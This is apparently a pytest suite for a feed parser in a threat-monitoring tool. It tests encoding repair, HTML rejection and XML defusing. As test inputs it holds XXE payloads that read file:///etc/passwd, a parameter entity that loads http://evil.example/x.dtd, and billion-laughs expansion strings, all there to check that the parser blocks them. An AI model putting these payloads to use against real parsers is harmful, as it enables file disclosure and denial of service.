"""parse_feed: decoding, defusing and mapping untrusted feed documents (no network)."""

from __future__ import annotations

import os
import threading
import time
import unicodedata
from datetime import UTC, datetime
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from ingest.bounded import run_bounded
from ingest.charset import decode_document, readable
from ingest.defuse import defuse_xml
from ingest.errors import ErrorKind, FeedError
from ingest.parse import ParsedFeed, parse_feed, parse_feed_bounded

XML = {"Content-Type": "application/xml"}
RU = "Сотрудники полиции задержали подозреваемых в подготовке теракта в Актобе"
KK = "Түркістан облысында лаңкестікке қарсы жаттығу өтті және қауіпсіздік күшейтілді"


def rss(items: str, channel: str = "", decl: str = '<?xml version="1.0" encoding="utf-8"?>') -> str:
    return (
        f'{decl}<rss version="2.0"><channel><title>Feed</title>'
        f"<link>https://example.kz/</link>{channel}{items}</channel></rss>"
    )


def parse(text: str | bytes, headers: dict[str, str] | None = None) -> ParsedFeed:
    body = text.encode("utf-8") if isinstance(text, str) else text
    return parse_feed(body, headers or XML, "https://example.kz/rss")


def kind_of(text: str | bytes, headers: dict[str, str] | None = None) -> ErrorKind:
    with pytest.raises(FeedError) as caught:
        parse(text, headers)
    return caught.value.kind


# --- refusing what is not a feed ------------------------------------------------------------


@pytest.mark.parametrize("body", [b"", b"   \n\t", b"\x00\x00", "\ufeff\n".encode()])
def test_empty_or_blank_documents_are_empty(body: bytes) -> None:
    assert kind_of(body) is ErrorKind.EMPTY


@pytest.mark.parametrize(
    ("body", "content_type"),
    [
        ("<!DOCTYPE html><html><body><p>Главная</p></body></html>", "text/html"),
        ("<!doctype HTML>\n<title>x</title>", "application/rss+xml"),
        (
            '<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><body/></html>',
            "text/xml",
        ),
        ("\n\n  <head><meta charset=utf-8></head>", "application/xml"),
        ("<div>not a feed</div>", "text/html; charset=utf-8"),
    ],
)
def test_html_pages_are_not_feeds(body: str, content_type: str) -> None:
    assert kind_of(body, {"Content-Type": content_type}) is ErrorKind.NOT_A_FEED


def test_html_mentioned_in_a_comment_does_not_make_a_page() -> None:
    feed = parse("<!-- generated, not an <html> page -->" + rss("<item><title>x</title></item>"))
    assert [e.title for e in feed.entries] == ["x"]


def test_a_feed_served_as_text_html_is_still_parsed() -> None:
    feed = parse(rss("<item><title>Served as HTML</title></item>"), {"Content-Type": "text/html"})
    assert [e.title for e in feed.entries] == ["Served as HTML"]


@pytest.mark.parametrize("body", ['{"version": "jsonfeed"}', "just words", "<note>hi</note>"])
def test_documents_without_feed_structure_are_not_feeds(body: str) -> None:
    assert kind_of(body) is ErrorKind.NOT_A_FEED


def test_a_path_or_url_given_as_body_is_never_opened(tmp_path: Path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("TOPSECRET-path", encoding="utf-8")
    for body in (str(secret), secret.as_uri(), "http://127.0.0.1:9/feed.xml"):
        with pytest.raises(FeedError) as caught:
            parse(body)
        assert caught.value.kind is ErrorKind.NOT_A_FEED
        assert "TOPSECRET" not in caught.value.message


def test_a_valid_feed_without_items_has_no_entries() -> None:
    feed = parse(rss("", "<language>en-us</language>"))
    assert feed.entries == () and feed.warning is None and feed.language == "en"


# --- mapping entries ------------------------------------------------------------------------


def test_entry_fields_are_taken_as_given() -> None:
    feed = parse(
        rss(
            "<item><title>&lt;b&gt;Теракт&lt;/b&gt; предотвращён</title><link>/news/1</link>"
            "<guid isPermaLink='false'> g-1 </guid><description><![CDATA[<p>Текст</p>]]>"
            "</description><pubDate>Mon, 04 Mar 2024 10:15:00 +0600</pubDate></item>"
        )
    )
    (entry,) = feed.entries
    assert entry.title == "<b>Теракт</b> предотвращён"
    assert entry.link == "/news/1"  # relative: normalize resolves it
    assert entry.guid == "g-1"
    assert entry.summary == "<p>Текст</p>"
    assert entry.published == datetime(2024, 3, 4, 4, 15, tzinfo=UTC)


def test_summary_falls_back_to_the_first_content_value() -> None:
    feed = parse(
        '<feed xmlns="http://www.w3.org/2005/Atom"><title>A</title>'
        '<entry><title>One</title><content type="html">&lt;p&gt;Body&lt;/p&gt;</content></entry>'
        "</feed>"
    )
    assert feed.entries[0].summary == "<p>Body</p>"


def test_published_prefers_published_then_updated_and_ignores_garbage() -> None:
    feed = parse(
        '<feed xmlns="http://www.w3.org/2005/Atom"><title>A</title>'
        "<entry><title>both</title><published>2024-01-01T06:00:00+06:00</published>"
        "<updated>2024-02-01T00:00:00Z</updated></entry>"
        "<entry><title>updated only</title><updated>2024-02-01T00:00:00Z</updated></entry>"
        "<entry><title>garbage</title><updated>the day before yesterday</updated></entry>"
        "</feed>"
    )
    assert [e.published for e in feed.entries] == [
        datetime(2024, 1, 1, 0, 0, tzinfo=UTC),
        datetime(2024, 2, 1, 0, 0, tzinfo=UTC),
        None,
    ]


def test_languages_come_from_feed_entry_or_content_language() -> None:
    feed = parse(
        '<feed xmlns="http://www.w3.org/2005/Atom" xml:lang="ru-RU"><title>A</title>'
        "<entry><title>ru</title></entry>"
        '<entry xml:lang="kk"><title>kk</title></entry></feed>'
    )
    assert feed.language == "ru"
    assert [e.language for e in feed.entries] == [None, "kk"]
    undeclared = parse(rss("<item><title>x</title></item>"), {**XML, "Content-Language": "kk-KZ"})
    assert undeclared.language == "kk"


def test_control_characters_never_reach_titles() -> None:
    feed = parse(rss("<item><title>a\x01b&#2;c\x1fd\x7fe\x81f</title></item>").encode())
    assert feed.entries[0].title == "abcdef"
    assert not any(unicodedata.category(c) == "Cc" for c in feed.entries[0].title)


def test_c1_characters_get_their_windows_1252_meaning() -> None:
    # feedparser's own repair: U+0080-U+009F in text are almost always cp1252 leftovers.
    feed = parse(rss("<item><title>wait\x85 \x93quoted\x94</title></item>"))
    assert feed.entries[0].title == "wait… “quoted”"


def test_malformed_feed_with_entries_returns_them_with_a_warning() -> None:
    feed = parse(rss("<item><title>One</title><description>x <b>y</description></item>"))
    assert [e.title for e in feed.entries] == ["One"]
    assert feed.warning and "mismatched tag" in feed.warning


# --- encodings ------------------------------------------------------------------------------


def test_declared_encoding_is_used_when_it_reads_well() -> None:
    text, codec, repaired = decode_document(
        f'<?xml encoding="koi8-r"?><t>{RU}</t>'.encode("koi8-r"), None
    )
    assert (RU in text, codec, repaired) == (True, "koi8-r", False)


def test_http_charset_wins_when_both_read_well() -> None:
    body = f'<?xml version="1.0" encoding="iso-8859-5"?><t>{"abc"}</t>'.encode()
    assert decode_document(body, "windows-1251")[1:] == ("cp1251", False)


def test_wrong_http_charset_falls_back_to_the_xml_declaration() -> None:
    body = f'<?xml version="1.0" encoding="windows-1251"?><t>{RU}</t>'.encode("cp1251")
    text, codec, repaired = decode_document(body, "utf-8")
    assert (RU in text, codec, repaired) == (True, "cp1251", True)


def test_unknown_charset_name_is_a_wrong_declaration() -> None:
    text, codec, repaired = decode_document(f"<t>{RU}</t>".encode(), "utf8mb4-bogus")
    assert (RU in text, codec, repaired) == (True, "utf-8", True)


def test_a_utf16_declaration_on_a_byte_document_is_a_wrong_declaration() -> None:
    body = f'<?xml version="1.0" encoding="utf-16"?><t>{KK}</t>'.encode()
    text, codec, repaired = decode_document(body, None)
    assert (KK in text, codec, repaired) == (True, "utf-8", True)


def test_a_few_stray_bytes_in_utf8_are_replaced_not_guessed_away() -> None:
    body = f"<t>{RU} \xff {KK}</t>".encode().replace(b"\xc3\xbf", b"\xff")
    text, codec, repaired = decode_document(body, "utf-8")
    assert (codec, repaired) == ("utf-8", True)
    assert f"{RU} \ufffd {KK}" in text


def test_utf8_bom_is_honoured_and_removed() -> None:
    text, codec, repaired = decode_document(b"\xef\xbb\xbf" + f"<t>{KK}</t>".encode(), "cp1251")
    assert (text, codec, repaired) == (f"<t>{KK}</t>", "utf-8", False)


def test_unreadable_documents_are_an_encoding_error() -> None:
    double_encoded = f"<t>{RU}</t>".encode().decode("latin-1").encode()
    with pytest.raises(FeedError) as caught:
        decode_document(double_encoded, "utf-8")
    assert caught.value.kind is ErrorKind.ENCODING


@pytest.mark.parametrize(
    "text",
    [
        RU.encode().decode("cp1252", "replace"),  # Ð¢ÐµÑ€...
        RU.encode().decode("cp1251"),  # РўРµСЂ...
        RU.encode("cp1251").decode("latin-1"),  # Òåðàêò...
        RU.encode("cp1251").decode("koi8-r"),  # case-swapped Cyrillic
        (RU.upper() + " " + KK.upper() + " ОБЛАСТНОЙ ДЕПАРТАМЕНТ ПОЛИЦИИ СООБЩИЛ ВЧЕРА ВЕЧЕРОМ")
        .encode("cp1251", "ignore")
        .decode("koi8-r"),  # lower-case garbage that looks tidy
    ],
)
def test_mojibake_is_not_readable(text: str) -> None:
    assert not readable(text)


@pytest.mark.parametrize(
    "text",
    [
        RU,
        KK,
        RU.upper(),
        "Qazaqstanda terrorızmge qarsy jattyǵý ótti, jáne úshin boıynsha jyly",
        "Kazakhstan’s “drill” ended — café, naïve… 5 %",
        "Telegram-канал «Ислам» заблокирован 🚫 по решению суда № 5; объём – 5 %",
        "Новость Текст " * 200,
    ],
)
def test_real_text_is_readable(text: str) -> None:
    assert readable(text)


# --- DOCTYPE and entities -------------------------------------------------------------------


def test_doctype_is_removed_and_harmless_entities_expanded_once() -> None:
    out = defuse_xml(
        '<?xml version="1.0"?>\n<!DOCTYPE rss [<!ENTITY nbsp "&#160;"><!ENTITY org "КНБ">'
        '<!ENTITY ext SYSTEM "file:///etc/passwd"><!ENTITY a "&org;&org;">'
        '<!ENTITY % pe SYSTEM "http://evil.example/x.dtd"> %pe;]>\n'
        "<rss><t>&org;&nbsp;&ext;&a;&amp;&undeclared;</t><![CDATA[&org;]]></rss>"
    )
    assert "DOCTYPE" not in out and "ENTITY" not in out
    assert "<t>КНБ&#160;&amp;&undeclared;</t><![CDATA[&org;]]>" in out


def test_quoted_and_commented_brackets_do_not_end_the_doctype_early() -> None:
    out = defuse_xml(
        '<!DOCTYPE r [<!ENTITY d "]>"><!-- ]> --><!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>'
    )
    assert out == "<r></r>"


@pytest.mark.parametrize(
    "text",
    [
        '<!DOCTYPE rss [<!ENTITY a "b">\n<rss><t>&a;</t></rss>',  # never closed
        '<rss><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><t>&e;</t></rss>',
        '<rss><t>x</t><!ENTITY e SYSTEM "file:///etc/passwd"></rss>',
        '<!DOCTYPE r [<!ENTITY big "' + "x" * 200 + '">]><r>' + "&big;" * 6000 + "</r>",
    ],
)
def test_unsafe_declarations_are_refused(text: str) -> None:
    with pytest.raises(FeedError) as caught:
        defuse_xml(text)
    assert caught.value.kind is ErrorKind.UNSAFE_XML


def test_declarations_quoted_in_cdata_or_comments_are_just_text() -> None:
    text = '<rss><!-- <!DOCTYPE x> --><d><![CDATA[<!ENTITY e SYSTEM "file:///x">]]></d></rss>'
    assert defuse_xml(text) == text


def test_external_entity_content_never_appears(tmp_path: Path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("TOPSECRET-xxe", encoding="utf-8")
    feed = parse(
        f'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY xxe SYSTEM "{secret.as_uri()}">]>'
        + rss("<item><title>leak:&xxe;</title><description>&xxe;</description></item>", decl="")
    )
    assert "TOPSECRET" not in repr(feed)
    assert feed.entries[0].title == "leak:"


def test_billion_laughs_does_not_expand() -> None:
    levels = ['<!ENTITY l0 "lol">'] + [
        f'<!ENTITY l{i} "{("&l" + str(i - 1) + ";") * 10}">' for i in range(1, 10)
    ]
    feed = parse(
        f"<!DOCTYPE rss [{''.join(levels)}]>" + rss("<item><title>a&l9;b</title></item>", decl="")
    )
    assert feed.entries[0].title == "ab"


# --- never anything but FeedError -----------------------------------------------------------

_PIECES = st.sampled_from(
    [
        '<?xml version="1.0" encoding="utf-8"?>',
        '<?xml encoding="koi8-r"?>',
        '<rss version="2.0">',
        "<channel>",
        "<item>",
        "<title>",
        "</title>",
        "</item>",
        '<feed xmlns="http://www.w3.org/2005/Atom">',
        "<entry>",
        "<!DOCTYPE rss [",
        '<!ENTITY a "&a;&a;">',
        '<!ENTITY x SYSTEM "file:///etc/passwd">',
        "]>",
        "&a;",
        "&x;",
        "&#0;",
        "<![CDATA[",
        "]]>",
        "<!--",
        "-->",
        "<pubDate>Mon, 99 Foo 2024 99:99:99 +9999</pubDate>",
        "Теракт",
        "\xd0",
        "\x00",
        "<html>",
    ]
)


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(body=st.binary(max_size=600))
def test_arbitrary_bytes_give_a_feed_or_a_feed_error(body: bytes) -> None:
    try:
        result = parse_feed(body, XML, "u")
    except FeedError as exc:
        assert exc.kind in set(ErrorKind) and exc.message.strip()
    else:
        assert result.encoding
        for entry in result.entries:
            assert not [
                c for c in entry.title if unicodedata.category(c) == "Cc" and c not in "\t\n"
            ]


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(pieces=st.lists(_PIECES, max_size=30), charset=st.sampled_from(["", "; charset=koi8-r"]))
def test_feed_like_garbage_gives_a_feed_or_a_feed_error(pieces: list[str], charset: str) -> None:
    body = "".join(pieces).encode("utf-8", "surrogatepass")
    try:
        result = parse_feed(body, {"Content-Type": "application/xml" + charset}, "u")
    except FeedError as exc:
        assert exc.kind in set(ErrorKind) and exc.message.strip()
    else:
        assert "root:" not in repr(result)  # /etc/passwd never read


# --- the bounded child process --------------------------------------------------------------

SMALL = rss("<item><title>Первая</title><guid>1</guid></item>").encode()


def test_bounded_parse_returns_the_same_result_as_in_process() -> None:
    assert parse_feed_bounded(SMALL, XML, "u") == parse_feed(SMALL, XML, "u")


def test_bounded_parse_passes_feed_errors_through() -> None:
    with pytest.raises(FeedError) as caught:
        parse_feed_bounded(b"<html><body>x</body></html>", XML, "u")
    assert caught.value.kind is ErrorKind.NOT_A_FEED


def test_bounded_parse_is_killed_at_the_timeout() -> None:
    huge = rss("".join(f"<item><title>n{i}</title><guid>{i}</guid></item>" for i in range(30000)))
    started = time.monotonic()
    with pytest.raises(FeedError) as caught:
        parse_feed_bounded(huge.encode(), XML, "u", timeout=0.05)
    assert caught.value.kind is ErrorKind.PARSE
    assert caught.value.message == "parser exceeded 0.05 s"
    assert time.monotonic() - started < 2.0


def test_a_hung_child_is_killed_at_the_timeout() -> None:
    started = time.monotonic()
    with pytest.raises(FeedError) as caught:
        run_bounded(time.sleep, (30,), timeout=0.3, memory_mb=512)
    assert caught.value.message == "parser exceeded 0.3 s"
    assert time.monotonic() - started < 2.0


def test_running_out_of_memory_is_a_parse_error() -> None:
    with pytest.raises(FeedError) as caught:
        run_bounded(bytearray, (2 * 1024**3,), timeout=10, memory_mb=256)
    assert caught.value.kind is ErrorKind.PARSE
    assert "memory" in caught.value.message


def test_a_child_that_dies_is_a_parse_error() -> None:
    with pytest.raises(FeedError) as caught:
        run_bounded(os._exit, (3,), timeout=10, memory_mb=256)
    assert caught.value.kind is ErrorKind.PARSE
    assert caught.value.message == "parser process died (exit status 3)"


def test_bounded_parse_works_from_many_threads() -> None:
    results: list[object] = []

    def work(n: int) -> None:
        body = rss(f"<item><title>thread {n}</title></item>").encode()
        results.append(parse_feed_bounded(body, XML, "u").entries[0].title)

    threads = [threading.Thread(target=work, args=(n,)) for n in range(8)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(30)
    assert sorted(results) == sorted(f"thread {n}" for n in range(8))


def test_the_ingest_command_starts_the_parser_server_before_importing_its_modules() -> None:
    """`threatmon ingest` warms the parser server up first, so its imports overlap the command's.

    Checked in a fresh interpreter: right after the command is looked up (which
    imports its module), a forkserver child already runs, started before the
    ingest modules were imported.
    """
    import subprocess
    import sys

    script = (
        "import sys, os, click\n"
        "from threatmon.cli import cli\n"
        "ctx = click.Context(cli)\n"
        "before = 'ingest.refresh' in sys.modules\n"
        "cli.get_command(ctx, 'ingest')\n"
        "kids = open(f'/proc/{os.getpid()}/task/{os.getpid()}/children').read().split()\n"
        "cmd = [open(f'/proc/{k}/cmdline', 'rb').read() for k in kids]\n"
        "print(before, any(b'forkserver' in c for c in cmd))\n"
    )
    shown = subprocess.run(
        [sys.executable, "-c", script], capture_output=True, text=True, check=True, timeout=60
    )
    assert shown.stdout.split() == ["False", "True"]
